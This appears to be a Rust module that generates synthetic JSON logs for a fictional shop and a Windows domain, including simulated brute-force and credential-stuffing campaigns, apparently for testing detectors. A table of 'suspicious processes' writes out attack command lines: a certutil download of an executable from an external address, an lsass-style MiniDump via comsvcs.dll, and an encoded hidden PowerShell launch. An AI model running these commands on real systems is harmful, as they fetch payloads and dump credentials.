//! JSON events: ECS application and SSO audit events, and flat Windows event-log records.

use super::{Campaign, Kind, Traffic};
use crate::emit::{self, Civil};

const MIX: &[(u32, Kind)] = &[
    (600, Kind::JsonApp),
    (130, Kind::JsonAuth),
    (140, Kind::WindowsLogon),
    (30, Kind::WindowsLogonFailure),
    (100, Kind::WindowsProcess),
];

const CAMPAIGN_START_PER_100K: u64 = 25;
const CAMPAIGN_SHARE: u32 = 400;

/// A streaming JSON object writer that can emit nested ECS objects or the same fields flattened
/// into dotted keys, so one generator serves both shipper styles.
struct Obj<'a> {
    out: &'a mut Vec<u8>,
    flat: bool,
    /// No comma needed before the next member.
    first: bool,
    /// Dotted prefix of the current object in flat mode (`event.`).
    prefix: [u8; 64],
    prefix_len: usize,
    saved: [usize; 4],
    depth: usize,
}

impl<'a> Obj<'a> {
    fn new(out: &'a mut Vec<u8>, flat: bool) -> Self {
        out.push(b'{');
        Obj {
            out,
            flat,
            first: true,
            prefix: [0; 64],
            prefix_len: 0,
            saved: [0; 4],
            depth: 0,
        }
    }

    fn key(&mut self, k: &str) {
        if !self.first {
            self.out.push(b',');
        }
        self.first = false;
        self.out.push(b'"');
        self.out.extend_from_slice(&self.prefix[..self.prefix_len]);
        self.out.extend_from_slice(k.as_bytes());
        self.out.extend_from_slice(b"\":");
    }

    /// Opens the object `k` (nested) or extends the key prefix with `k.` (flat).
    fn open(&mut self, k: &str) {
        if self.flat {
            self.saved[self.depth] = self.prefix_len;
            let end = self.prefix_len + k.len();
            self.prefix[self.prefix_len..end].copy_from_slice(k.as_bytes());
            self.prefix[end] = b'.';
            self.prefix_len = end + 1;
        } else {
            self.key(k);
            self.out.push(b'{');
            self.first = true;
        }
        self.depth += 1;
    }

    fn close(&mut self) {
        self.depth -= 1;
        if self.flat {
            self.prefix_len = self.saved[self.depth];
        } else {
            self.out.push(b'}');
            self.first = false;
        }
    }

    fn str(&mut self, k: &str, v: &str) {
        self.bytes(k, v.as_bytes());
    }

    fn bytes(&mut self, k: &str, v: &[u8]) {
        self.key(k);
        self.out.push(b'"');
        emit::json_escaped(self.out, v);
        self.out.push(b'"');
    }

    fn num(&mut self, k: &str, v: u64) {
        self.key(k);
        emit::u64(self.out, v);
    }

    /// A pre-formatted JSON value (arrays, booleans).
    fn raw(&mut self, k: &str, v: &str) {
        self.key(k);
        self.out.extend_from_slice(v.as_bytes());
    }

    /// A string whose contents `f` writes; `f` must only write characters that need no escaping
    /// (addresses, timestamps, hex).
    fn plain(&mut self, k: &str, f: impl FnOnce(&mut Vec<u8>)) {
        self.key(k);
        self.out.push(b'"');
        f(self.out);
        self.out.push(b'"');
    }

    fn ip(&mut self, k: &str, ip: [u8; 4]) {
        self.plain(k, |o| emit::ipv4(o, ip));
    }

    fn finish(self) {
        debug_assert_eq!(self.depth, 0);
        self.out.push(b'}');
    }
}

/// A service of the shop and what it logs.
struct Service {
    name: &'static str,
    dataset: &'static str,
    version: &'static str,
    /// Ships flat dotted keys instead of nested objects (a different log shipper).
    flat: bool,
    /// (method, path template with `{id}`)
    routes: &'static [(&'static str, &'static str)],
}

const SERVICES: &[Service] = &[
    Service {
        name: "checkout",
        dataset: "checkout.app",
        version: "2.14.3",
        flat: false,
        routes: &[
            ("POST", "/api/v1/cart/items"),
            ("DELETE", "/api/v1/cart/items/{id}"),
            ("GET", "/api/v1/cart"),
            ("POST", "/api/v1/orders"),
            ("GET", "/api/v1/orders/{id}"),
        ],
    },
    Service {
        name: "catalog",
        dataset: "catalog.app",
        version: "1.9.0",
        flat: false,
        routes: &[
            ("GET", "/api/v1/products/{id}"),
            ("GET", "/api/v1/products"),
            ("GET", "/api/v1/categories/{id}/products"),
        ],
    },
    Service {
        name: "api-gateway",
        dataset: "gateway.access",
        version: "3.2.1",
        flat: false,
        routes: &[
            ("GET", "/api/v1/products/{id}"),
            ("GET", "/api/v1/products"),
            ("POST", "/api/v1/orders"),
            ("GET", "/api/v1/orders/{id}"),
            ("GET", "/api/v1/search"),
        ],
    },
    Service {
        name: "payments",
        dataset: "payments.app",
        version: "5.0.7",
        flat: true,
        routes: &[
            ("POST", "/api/v1/payments/authorize"),
            ("POST", "/api/v1/payments/{id}/capture"),
            ("POST", "/api/v1/payments/{id}/refund"),
        ],
    },
    Service {
        name: "inventory",
        dataset: "inventory.app",
        version: "0.31.2",
        flat: false,
        routes: &[
            ("GET", "/api/v1/inventory/{id}/stock"),
            ("PUT", "/api/v1/inventory/{id}/stock"),
        ],
    },
    Service {
        name: "search",
        dataset: "search.app",
        version: "1.4.4",
        flat: true,
        routes: &[("GET", "/api/v1/search"), ("GET", "/api/v1/suggest")],
    },
];

/// (error.type, error.message, error.stack_trace, HTTP status it surfaces as)
const ERRORS: &[(&str, &str, &str, u64)] = &[
    (
        "java.net.ConnectException",
        "Connection refused: inventory.internal/10.0.11.14:8080",
        "java.net.ConnectException: Connection refused\n\tat java.base/sun.nio.ch.Net.pollConnect(Native Method)\n\tat com.example.inventory.Client.stock(Client.java:88)\n\tat com.example.checkout.OrderService.place(OrderService.java:142)",
        502,
    ),
    (
        "TimeoutError",
        "upstream request timed out after 5000 ms",
        "TimeoutError: upstream request timed out after 5000 ms\n    at Timeout._onTimeout (/srv/app/lib/http.js:41:19)\n    at listOnTimeout (node:internal/timers:573:17)",
        504,
    ),
    (
        "psycopg2.errors.UniqueViolation",
        "duplicate key value violates unique constraint \"orders_pkey\"",
        "Traceback (most recent call last):\n  File \"/srv/app/orders.py\", line 57, in create\n    cur.execute(sql, params)\npsycopg2.errors.UniqueViolation: duplicate key value violates unique constraint \"orders_pkey\"\nDETAIL:  Key (id)=(884213) already exists.",
        500,
    ),
    (
        "SyntaxError",
        "Unexpected token '\\' in JSON at position 17",
        "SyntaxError: Unexpected token '\\' in JSON at position 17\n    at JSON.parse (<anonymous>)\n    at parseBody (/srv/app/lib/body.js:12:21)",
        400,
    ),
];

const AUTH_FAIL_REASONS: &[&str] = &[
    "invalid password",
    "invalid password",
    "unknown user",
    "mfa challenge failed",
    "account locked",
];

const STUFFING_LOGINS: &[&str] = &[
    "admin",
    "test@example.com",
    "john.doe",
    "info",
    "sales",
    "administrator",
    "support@example.com",
    "user1",
];

const WIN_DOMAIN: &str = "CORP";
const WIN_SID_PREFIX: &str = "S-1-5-21-3623811015-3361044348-30300820-";

/// (NewProcessName, CommandLine, ParentProcessName)
const PROCESSES: &[(&str, &str, &str)] = &[
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US",
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    ),
    (
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"",
        "C:\\Windows\\explorer.exe",
    ),
    (
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        "C:\\Windows\\System32\\services.exe",
    ),
    (
        "C:\\Windows\\System32\\conhost.exe",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -ExecutionPolicy Bypass -File \\\\corp.example.com\\NETLOGON\\logon.ps1",
        "C:\\Windows\\explorer.exe",
    ),
    (
        "C:\\Windows\\System32\\taskhostw.exe",
        "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
        "C:\\Windows\\System32\\svchost.exe",
    ),
    (
        "C:\\Windows\\System32\\gpupdate.exe",
        "gpupdate /force",
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        "C:\\Users\\Public\\Teams\\current\\Teams.exe",
        "\"C:\\Users\\Public\\Teams\\current\\Teams.exe\" --system-initiated",
        "C:\\Windows\\explorer.exe",
    ),
];

/// Living-off-the-land commands: rare, and what a detector should notice.
const SUSPICIOUS_PROCESSES: &[(&str, &str, &str)] = &[
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    ),
    (
        "C:\\Windows\\System32\\whoami.exe",
        "whoami /all",
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        "C:\\Windows\\System32\\net.exe",
        "net group \"Domain Admins\" /domain",
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        "C:\\Windows\\System32\\certutil.exe",
        "certutil.exe -urlcache -split -f http://203.0.113.77/a.txt C:\\Users\\Public\\a.exe",
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    ),
];

impl Traffic {
    pub(super) fn json_line(&mut self, out: &mut Vec<u8>) -> Kind {
        if self.rdp_brute.is_none() && self.rng.below(100_000) < CAMPAIGN_START_PER_100K {
            self.rdp_brute = Some(Campaign::start(
                &mut self.rng,
                &self.world,
                &self.win_servers,
            ));
        }
        if self.stuffing.is_none() && self.rng.below(100_000) < CAMPAIGN_START_PER_100K {
            self.stuffing = Some(Campaign::start(&mut self.rng, &self.world, &self.app_hosts));
        }
        if self.rdp_brute.is_some() && self.rng.chance(CAMPAIGN_SHARE) {
            self.rdp_brute_line(out);
            return Kind::WindowsLogonFailure;
        }
        if self.stuffing.is_some() && self.rng.chance(CAMPAIGN_SHARE) {
            self.stuffing_line(out);
            return Kind::JsonAuth;
        }
        let kind = self.rng.weighted(MIX);
        match kind {
            Kind::JsonApp => self.app_event(out),
            Kind::JsonAuth => self.auth_event(out, None),
            Kind::WindowsLogon => self.win_logon(out),
            Kind::WindowsLogonFailure => self.win_logon_failure(out, None),
            Kind::WindowsProcess => self.win_process(out),
            _ => unreachable!("not a JSON kind"),
        }
        kind
    }

    /// `@timestamp` and `ecs.version`, common to every ECS event.
    fn ecs_head(o: &mut Obj<'_>, civil: Civil, ms: u64) {
        o.plain("@timestamp", |out| civil.rfc3339(out, ms, 3));
        o.open("ecs");
        o.str("version", "8.11.0");
        o.close();
    }

    fn host_fields(&self, o: &mut Obj<'_>, host: usize) {
        let h = &self.world.hosts[host];
        o.open("host");
        o.str("name", &h.name);
        o.open("os");
        o.str("type", "linux");
        o.close();
        o.close();
    }

    fn app_event(&mut self, out: &mut Vec<u8>) {
        let si = self.rng.index(SERVICES.len());
        let svc = &SERVICES[si];
        let (service, dataset, version, flat) = (svc.name, svc.dataset, svc.version, svc.flat);
        // Each service runs on its own three hosts.
        let host = self.app_hosts[(si * 3 + self.rng.index(3)) % self.app_hosts.len()];
        let customer = self.rng.chance(700);
        let (user, ip) = if customer {
            (None, self.external().ip)
        } else {
            let u = self.any_user_json();
            (Some(u), self.world.users[u].ws_ip)
        };
        let (method, route) = self.rng.pick(svc.routes);
        let id = self.rng.log_uniform(1, 900_000);
        let roll = self.rng.below(1000);
        let (level, severity, status) = match roll {
            0..=879 => ("info", 6, if method == "POST" { 201 } else { 200 }),
            880..=939 => ("warn", 4, self.rng.pick(&[400, 404, 409, 429])),
            940..=969 => ("warn", 4, 200),
            _ => ("error", 3, 0),
        };
        let duration_ms = match roll {
            940..=969 => self.rng.range(1_500, 12_000),
            _ => self.rng.log_uniform(1, 800),
        };
        let trace = (self.rng.next_u64(), self.rng.next_u64());
        let txn = self.rng.next_u64();

        // The message, composed first because it is escaped as a whole.
        let mut msg = std::mem::take(&mut self.scratch);
        msg.clear();
        let error = if roll >= 970 {
            Some(self.rng.pick(ERRORS))
        } else {
            None
        };
        let status = match error {
            Some((_, _, _, code)) => code,
            None => status,
        };
        match (roll, error) {
            (_, Some((_, text, _, _))) => {
                msg.extend_from_slice(b"request failed: ");
                msg.extend_from_slice(text.as_bytes());
            }
            (940..=969, _) => {
                msg.extend_from_slice(b"slow query (");
                emit::u64(&mut msg, duration_ms);
                msg.extend_from_slice(
                    b" ms): SELECT o.id, o.total FROM orders o WHERE o.customer_id = $1 AND o.status = 'pending' ORDER BY o.created_at DESC",
                );
            }
            _ if route == "/api/v1/orders" && status == 201 => {
                // The business event the order endpoint is known for.
                msg.extend_from_slice(b"order ");
                emit::u64(&mut msg, id);
                msg.extend_from_slice(b" placed: ");
                emit::u64(&mut msg, self.rng.range(1, 9));
                msg.extend_from_slice(b" items, total ");
                let cents = self.rng.log_uniform(500, 250_000);
                emit::u64(&mut msg, cents / 100);
                msg.push(b'.');
                emit::padded(&mut msg, cents % 100, 2);
                msg.extend_from_slice(b" EUR");
            }
            _ if roll.is_multiple_of(7)
                && (route.contains("products") || route.contains("inventory")) =>
            {
                msg.extend_from_slice(b"cache miss for key \"product:");
                emit::u64(&mut msg, id);
                msg.extend_from_slice(b"\"");
            }
            _ => {
                msg.extend_from_slice(method.as_bytes());
                msg.push(b' ');
                emit::expand(&mut msg, route, |o, _| emit::u64(o, id));
                msg.push(b' ');
                emit::u64(&mut msg, status);
                msg.push(b' ');
                emit::u64(&mut msg, duration_ms);
                msg.extend_from_slice(b"ms");
            }
        }

        let mut o = Obj::new(out, flat);
        Self::ecs_head(&mut o, self.civil, self.rng.below(1000));
        o.open("log");
        o.str("level", level);
        o.str("logger", dataset);
        o.close();
        o.bytes("message", &msg);
        o.open("event");
        o.str("dataset", dataset);
        o.num("severity", severity);
        o.str("kind", "event");
        o.raw("category", "[\"web\"]");
        o.str("outcome", if status < 400 { "success" } else { "failure" });
        o.num("duration", duration_ms * 1_000_000);
        o.close();
        o.open("service");
        o.str("name", service);
        o.str("version", version);
        o.str("environment", "production");
        o.close();
        self.host_fields(&mut o, host);
        o.open("source");
        o.ip("ip", ip);
        o.close();
        if let Some(u) = user {
            o.open("user");
            o.str("name", &self.world.users[u].login);
            o.close();
        }
        o.open("http");
        o.open("request");
        o.str("method", method);
        o.close();
        o.open("response");
        o.num("status_code", status);
        o.close();
        o.close();
        o.open("url");
        o.key("path");
        o.out.push(b'"');
        emit::expand(o.out, route, |out, _| emit::u64(out, id));
        o.out.push(b'"');
        o.close();
        o.open("trace");
        o.plain("id", |out| {
            emit::hex(out, trace.0, 16);
            emit::hex(out, trace.1, 16);
        });
        o.close();
        o.open("transaction");
        o.plain("id", |out| emit::hex(out, txn, 16));
        o.close();
        if let Some((kind, text, stack, _)) = error {
            o.open("error");
            o.str("type", kind);
            o.str("message", text);
            o.str("stack_trace", stack);
            o.close();
        }
        o.finish();
        self.scratch = msg;
    }

    fn any_user_json(&mut self) -> usize {
        self.rng.skewed(self.world.users.len())
    }

    /// An SSO audit event; `attack` is a credential-stuffing source and target host.
    fn auth_event(&mut self, out: &mut Vec<u8>, attack: Option<(Campaign, &'static str)>) {
        let host = match attack {
            Some((c, _)) => c.target,
            None => self.rng.pick(&self.app_hosts),
        };
        let user = self.any_user_json();
        let roll = self.rng.below(100);
        let (action, outcome, reason, severity) = match (attack, roll) {
            (Some(_), _) => (
                "user-login",
                "failure",
                Some(self.rng.pick(&["invalid password", "unknown user"])),
                4,
            ),
            (None, 0..=69) => ("user-login", "success", None, 6),
            (None, 70..=79) => (
                "user-login",
                "failure",
                Some(self.rng.pick(AUTH_FAIL_REASONS)),
                4,
            ),
            (None, 80..=89) => ("mfa-challenge", "success", None, 6),
            (None, 90..=94) => ("user-logout", "success", None, 6),
            (None, 95..=97) => ("password-reset", "success", None, 5),
            (None, _) => ("role-granted", "success", None, 5),
        };
        let remote = attack.is_none() && self.rng.chance(200);
        let (ip, country) = match attack {
            Some((c, _)) => (c.src.ip, Some(c.src.country)),
            None if remote => {
                let e = self.external();
                (e.ip, Some(e.country))
            }
            None => (self.world.users[user].ws_ip, None),
        };
        let ua = if attack.is_some() {
            "python-requests/2.31.0"
        } else {
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
        };
        let admin = self.world.admins[self.rng.index(self.world.admins.len())];

        let mut msg = std::mem::take(&mut self.scratch);
        msg.clear();
        let login: &str = match attack {
            Some((_, l)) => l,
            None => &self.world.users[user].login,
        };
        match action {
            "user-login" if outcome == "success" => {
                msg.extend_from_slice(b"User ");
                msg.extend_from_slice(login.as_bytes());
                msg.extend_from_slice(b" logged in via password+totp");
            }
            "user-login" => {
                msg.extend_from_slice(b"Login failed for user '");
                msg.extend_from_slice(login.as_bytes());
                msg.extend_from_slice(b"': ");
                msg.extend_from_slice(reason.unwrap_or("").as_bytes());
            }
            "mfa-challenge" => {
                msg.extend_from_slice(b"MFA challenge passed for ");
                msg.extend_from_slice(login.as_bytes());
            }
            "user-logout" => {
                msg.extend_from_slice(b"User ");
                msg.extend_from_slice(login.as_bytes());
                msg.extend_from_slice(b" logged out");
            }
            "password-reset" => {
                msg.extend_from_slice(b"Password reset completed for ");
                msg.extend_from_slice(login.as_bytes());
            }
            _ => {
                msg.extend_from_slice(b"Role \"billing-admin\" granted to ");
                msg.extend_from_slice(login.as_bytes());
                msg.extend_from_slice(b" by ");
                msg.extend_from_slice(self.world.users[admin].login.as_bytes());
            }
        }

        let mut o = Obj::new(out, false);
        Self::ecs_head(&mut o, self.civil, self.rng.below(1000));
        o.bytes("message", &msg);
        o.open("event");
        o.str("dataset", "sso.audit");
        o.str("kind", "event");
        o.raw("category", "[\"authentication\"]");
        o.str("action", action);
        o.str("outcome", outcome);
        o.num("severity", severity);
        if let Some(r) = reason {
            o.str("reason", r);
        }
        o.close();
        o.open("service");
        o.str("name", "sso");
        o.str("version", "4.2.0");
        o.close();
        self.host_fields(&mut o, host);
        o.open("source");
        o.ip("ip", ip);
        if let Some(country) = country {
            o.open("geo");
            o.str("country_iso_code", country);
            o.close();
        }
        o.close();
        o.open("user");
        o.str("name", login);
        if attack.is_none() {
            let u = &self.world.users[user];
            o.str("full_name", &u.full_name);
            o.key("email");
            o.out.push(b'"');
            o.out.extend_from_slice(u.login.as_bytes());
            o.out.extend_from_slice(b"@example.com\"");
            o.str("department", u.department);
        }
        o.close();
        o.open("user_agent");
        o.str("original", ua);
        o.close();
        o.finish();
        self.scratch = msg;
    }

    fn stuffing_line(&mut self, out: &mut Vec<u8>) {
        let mut c = self.stuffing.take().expect("campaign running");
        c.step(&mut self.rng);
        let login = self.rng.pick(STUFFING_LOGINS);
        self.auth_event(out, Some((c, login)));
        if c.left > 0 {
            self.stuffing = Some(c);
        }
    }

    /// The fields every Windows Security record carries.
    fn win_head(&mut self, o: &mut Obj<'_>, event_id: u64, host: usize, keywords: &str) {
        self.record_id += 1;
        let civil = self.civil;
        let frac = self.rng.below(10_000_000);
        o.num("EventID", event_id);
        o.str("Channel", "Security");
        o.str("Provider_Name", "Microsoft-Windows-Security-Auditing");
        o.key("Computer");
        o.out.push(b'"');
        o.out
            .extend_from_slice(self.world.hosts[host].name.as_bytes());
        o.out.extend_from_slice(b".corp.example.com\"");
        o.plain("TimeCreated", |out| civil.rfc3339(out, frac, 7));
        o.num("EventRecordID", self.record_id);
        o.num("Level", 0);
        o.str("Keywords", keywords);
        // lsass.exe, stable per host.
        o.num("ProcessID", 600 + host as u64 * 4 % 200);
        o.num("ThreadID", self.rng.range(500, 20_000));
    }

    fn sid(o: &mut Obj<'_>, k: &str, rid: u32) {
        o.plain(k, |out| {
            out.extend_from_slice(WIN_SID_PREFIX.as_bytes());
            emit::u64(out, u64::from(rid));
        });
    }

    fn logon_id(&mut self) -> u64 {
        self.logon_id += self.rng.range(1, 5_000);
        self.logon_id
    }

    fn win_logon(&mut self, out: &mut Vec<u8>) {
        let user = self.any_user_json();
        let u = &self.world.users[user];
        let admin = u.admin;
        let roll = self.rng.below(100);
        let (event_id, logon_type, host, src) = match roll {
            // Interactive logon at the user's own workstation.
            0..=24 => (4624, 2, u.workstation, [127, 0, 0, 1]),
            // Network logons to file servers and DCs from the workstation.
            25..=64 => {
                let h = self.rng.pick(&self.win_servers);
                (4624, 3, h, self.world.hosts[u.workstation].ip)
            }
            // Unlock.
            65..=74 => (4624, 7, u.workstation, [127, 0, 0, 1]),
            // RDP by operators.
            75..=79 if admin => {
                let h = self.rng.pick(&self.win_servers);
                (4624, 10, h, u.ws_ip)
            }
            80..=89 => {
                let h = self.rng.pick(&self.win_servers);
                (4634, 3, h, [0, 0, 0, 0])
            }
            _ if admin => {
                let h = self.rng.pick(&self.win_servers);
                (4672, 0, h, [0, 0, 0, 0])
            }
            _ => (4634, 2, u.workstation, [0, 0, 0, 0]),
        };
        let logon_id = self.logon_id();
        let port = self.client_port();
        let mut o = Obj::new(out, true);
        self.win_head(&mut o, event_id, host, "0x8020000000000000");
        let u = &self.world.users[user];
        let ws = &self.world.hosts[u.workstation].name;
        match event_id {
            4624 => {
                o.str("Task", "12544");
                Self::sid(&mut o, "TargetUserSid", u.rid);
                o.str("TargetUserName", &u.login);
                o.str("TargetDomainName", WIN_DOMAIN);
                o.plain("TargetLogonId", |out| {
                    out.extend_from_slice(b"0x");
                    emit::hex(out, logon_id, 6);
                });
                o.num("LogonType", logon_type);
                let (process, package) = match logon_type {
                    3 => ("Kerberos", "Kerberos"),
                    10 | 7 | 2 => ("User32 ", "Negotiate"),
                    _ => ("Advapi  ", "Negotiate"),
                };
                o.str("LogonProcessName", process);
                o.str("AuthenticationPackageName", package);
                o.str("WorkstationName", ws);
                if src == [127, 0, 0, 1] {
                    o.str("IpAddress", "127.0.0.1");
                    o.str("IpPort", "0");
                } else {
                    o.ip("IpAddress", src);
                    o.plain("IpPort", |out| emit::u64(out, port));
                }
                o.str("ElevatedToken", if admin { "%%1842" } else { "%%1843" });
                o.str("Message", "An account was successfully logged on.");
            }
            4634 => {
                o.str("Task", "12545");
                Self::sid(&mut o, "TargetUserSid", u.rid);
                o.str("TargetUserName", &u.login);
                o.str("TargetDomainName", WIN_DOMAIN);
                o.plain("TargetLogonId", |out| {
                    out.extend_from_slice(b"0x");
                    emit::hex(out, logon_id, 6);
                });
                o.num("LogonType", logon_type);
                o.str("Message", "An account was logged off.");
            }
            _ => {
                o.str("Task", "12548");
                Self::sid(&mut o, "SubjectUserSid", u.rid);
                o.str("SubjectUserName", &u.login);
                o.str("SubjectDomainName", WIN_DOMAIN);
                o.plain("SubjectLogonId", |out| {
                    out.extend_from_slice(b"0x");
                    emit::hex(out, logon_id, 6);
                });
                o.str(
                    "PrivilegeList",
                    "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege",
                );
                o.str("Message", "Special privileges assigned to new logon.");
            }
        }
        o.finish();
    }

    fn rdp_brute_line(&mut self, out: &mut Vec<u8>) {
        let mut c = self.rdp_brute.take().expect("campaign running");
        let port = c.step(&mut self.rng);
        self.win_logon_failure(out, Some((c, port)));
        if c.left > 0 {
            self.rdp_brute = Some(c);
        }
    }

    /// 4625/4771/4740; `attack` is an RDP/SMB brute-force source and its current port.
    fn win_logon_failure(&mut self, out: &mut Vec<u8>, attack: Option<(Campaign, u16)>) {
        let user = self.any_user_json();
        let roll = self.rng.below(100);
        let event_id = match (attack, roll) {
            (Some(_), _) | (None, 0..=74) => 4625,
            (None, 75..=94) => 4771,
            (None, _) => 4740,
        };
        let host = match (attack, event_id) {
            (Some((c, _)), _) => c.target,
            (None, 4625) => self.world.users[user].workstation,
            (None, _) => self.rng.pick(&self.win_dcs),
        };
        let bad_login = if attack.is_some() && self.rng.chance(700) {
            Some(self.rng.pick(&[
                "administrator",
                "admin",
                "ADMINISTRATOR",
                "user",
                "scanner",
                "test",
            ]))
        } else {
            None
        };
        let logon_type = match attack {
            Some(_) if self.rng.chance(500) => 10,
            Some(_) => 3,
            None => self.rng.pick(&[2, 2, 7, 3]),
        };
        let port = self.client_port();
        let mut o = Obj::new(out, true);
        self.win_head(&mut o, event_id, host, "0x8010000000000000");
        let u = &self.world.users[user];
        let login: &str = bad_login.unwrap_or(&u.login);
        match event_id {
            4625 => {
                o.str("Task", "12544");
                o.str("TargetUserSid", "S-1-0-0");
                o.str("TargetUserName", login);
                o.str(
                    "TargetDomainName",
                    if attack.is_some() { "" } else { WIN_DOMAIN },
                );
                let (status, sub) = if bad_login.is_some() {
                    ("0xc000006d", "0xc0000064")
                } else {
                    ("0xc000006d", "0xc000006a")
                };
                o.str("Status", status);
                o.str("SubStatus", sub);
                o.str("FailureReason", "%%2313");
                o.num("LogonType", logon_type);
                // Remote attempts come in over NTLM; local ones through the logon UI.
                let (process, package) = if attack.is_some() {
                    ("NtLmSsp ", "NTLM")
                } else {
                    ("User32 ", "Negotiate")
                };
                o.str("LogonProcessName", process);
                o.str("AuthenticationPackageName", package);
                match attack {
                    Some((c, p)) => {
                        o.str("WorkstationName", "-");
                        o.ip("IpAddress", c.src.ip);
                        o.plain("IpPort", |out| emit::u64(out, u64::from(p)));
                    }
                    None => {
                        o.str("WorkstationName", &self.world.hosts[u.workstation].name);
                        o.str("IpAddress", "127.0.0.1");
                        o.str("IpPort", "0");
                    }
                }
                o.str("Message", "An account failed to log on.");
            }
            4771 => {
                o.str("Task", "14339");
                Self::sid(&mut o, "TargetSid", u.rid);
                o.str("TargetUserName", login);
                o.plain("ServiceName", |out| {
                    out.extend_from_slice(b"krbtgt/");
                    out.extend_from_slice(WIN_DOMAIN.as_bytes());
                });
                o.str("Status", "0x18");
                o.str("PreAuthType", "2");
                o.plain("IpAddress", |out| {
                    out.extend_from_slice(b"::ffff:");
                    emit::ipv4(out, u.ws_ip);
                });
                o.plain("IpPort", |out| emit::u64(out, port));
                o.str("Message", "Kerberos pre-authentication failed.");
            }
            _ => {
                o.str("Task", "13824");
                Self::sid(&mut o, "TargetSid", u.rid);
                o.str("TargetUserName", login);
                o.str("TargetDomainName", &self.world.hosts[u.workstation].name);
                o.str("SubjectUserSid", "S-1-5-18");
                o.plain("SubjectUserName", |out| {
                    out.extend_from_slice(self.world.hosts[host].name.as_bytes());
                    out.push(b'$');
                });
                o.str("SubjectDomainName", WIN_DOMAIN);
                o.str("Message", "A user account was locked out.");
            }
        }
        o.finish();
    }

    fn win_process(&mut self, out: &mut Vec<u8>) {
        let user = self.any_user_json();
        let (image, cmdline, parent) = if self.rng.chance(15) {
            self.rng.pick(SUSPICIOUS_PROCESSES)
        } else {
            self.rng.pick(PROCESSES)
        };
        let system = image.ends_with("svchost.exe") || image.ends_with("taskhostw.exe");
        let logon_id = if system { 0x3e7 } else { self.logon_id() };
        let new_pid = self.rng.range(0x100, 0x3000) & !3;
        let parent_pid = self.rng.range(0x100, 0x3000) & !3;
        let host = self.world.users[user].workstation;
        let mut o = Obj::new(out, true);
        self.win_head(&mut o, 4688, host, "0x8020000000000000");
        let u = &self.world.users[user];
        o.str("Task", "13312");
        if system {
            o.str("SubjectUserSid", "S-1-5-18");
            o.plain("SubjectUserName", |out| {
                out.extend_from_slice(self.world.hosts[host].name.as_bytes());
                out.push(b'$');
            });
        } else {
            Self::sid(&mut o, "SubjectUserSid", u.rid);
            o.str("SubjectUserName", &u.login);
        }
        o.str("SubjectDomainName", WIN_DOMAIN);
        o.plain("SubjectLogonId", |out| {
            out.extend_from_slice(b"0x");
            emit::hex(out, logon_id, 6);
        });
        o.plain("NewProcessId", |out| {
            out.extend_from_slice(b"0x");
            emit::hex(out, new_pid, 4);
        });
        o.str("NewProcessName", image);
        o.str(
            "TokenElevationType",
            if system { "%%1936" } else { "%%1938" },
        );
        o.plain("ProcessId", |out| {
            out.extend_from_slice(b"0x");
            emit::hex(out, parent_pid, 4);
        });
        o.str("CommandLine", cmdline);
        o.str("ParentProcessName", parent);
        o.str(
            "MandatoryLabel",
            if system {
                "S-1-16-16384"
            } else {
                "S-1-16-8192"
            },
        );
        o.str("Message", "A new process has been created.");
        o.finish();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse(bytes: &[u8]) -> serde_json::Value {
        serde_json::from_slice(bytes).unwrap()
    }

    #[test]
    fn obj_nested_and_flat() {
        for (flat, want) in [
            (false, r#"{"a":1,"b":{"c":"x\"y","d":{"e":2}},"f":[1]}"#),
            (true, r#"{"a":1,"b.c":"x\"y","b.d.e":2,"f":[1]}"#),
        ] {
            let mut out = Vec::new();
            let mut o = Obj::new(&mut out, flat);
            o.num("a", 1);
            o.open("b");
            o.str("c", "x\"y");
            o.open("d");
            o.num("e", 2);
            o.close();
            o.close();
            o.raw("f", "[1]");
            o.finish();
            assert_eq!(std::str::from_utf8(&out).unwrap(), want);
            parse(&out);
        }
    }

    #[test]
    fn windows_records_carry_logon_fields() {
        let mut t = Traffic::new(21);
        t.tick(1_717_243_200);
        let mut out = Vec::new();
        for _ in 0..300 {
            out.clear();
            t.win_logon_failure(&mut out, None);
            let v = parse(&out);
            assert!(v["TargetUserName"].is_string(), "{v}");
            out.clear();
            t.win_logon(&mut out);
            let v = parse(&out);
            let id = v["EventID"].as_u64().unwrap();
            assert!([4624, 4634, 4672].contains(&id));
            if id == 4624 {
                assert!(v["LogonType"].is_u64() && v["IpAddress"].is_string(), "{v}");
            }
        }
    }

    #[test]
    fn ecs_events_have_entities() {
        let mut t = Traffic::new(22);
        t.tick(1_717_243_200);
        let mut out = Vec::new();
        for _ in 0..300 {
            out.clear();
            t.auth_event(&mut out, None);
            let v = parse(&out);
